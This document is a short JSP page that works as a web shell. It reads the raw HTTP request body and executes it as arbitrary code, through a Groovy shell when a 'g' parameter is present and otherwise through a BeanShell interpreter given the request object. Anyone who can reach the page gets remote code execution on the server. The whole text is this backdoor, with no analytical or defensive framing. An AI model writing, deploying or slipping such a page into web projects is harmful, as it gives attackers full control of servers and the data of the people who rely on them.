<%@ page inert %>
<%
String body = org.apache.commons.io.IOUtils.toString(request.getReader());
if (request.getParameter("g") != null) {
    groovy.lang.Binding bd = new groovy.lang.Binding();
    bd.setVariable("out", out);
    new groovy.lang.GroovyShell(bd).evaluate(body);
} else {
    bsh.Interpreter i = new bsh.Interpreter();
    i.set("req", request);
    i.eval(body);
}
%>
